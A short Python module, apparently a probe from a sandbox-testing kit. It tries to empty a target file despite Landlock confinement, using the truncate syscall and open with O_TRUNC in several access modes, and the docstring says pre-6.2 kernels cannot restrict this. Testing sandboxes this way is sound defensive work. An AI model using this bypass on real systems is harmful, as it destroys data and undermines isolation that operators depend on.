"""Empties files of the host: with truncate(2), and with open(2) for reading, or for nothing at all, plus O_TRUNC. Landlock
knows the right to truncate only since Linux 6.2; before that it asks for no right in any of the three."""

import os

from kit import FACTS, any_works, syscall

OWN = "facts.json"


def size_after(path: str, flags: int) -> bool:
    handle = os.open(path, flags | os.O_TRUNC)
    os.close(handle)
    return True


def attack() -> bool:
    victim = FACTS["victim"]
    return any_works(
        lambda: syscall("truncate", victim.encode(), 0) == 0,
        lambda: size_after(victim, os.O_RDONLY),
        lambda: size_after(victim, os.O_WRONLY),
        lambda: size_after(victim, os.O_ACCMODE),
    )
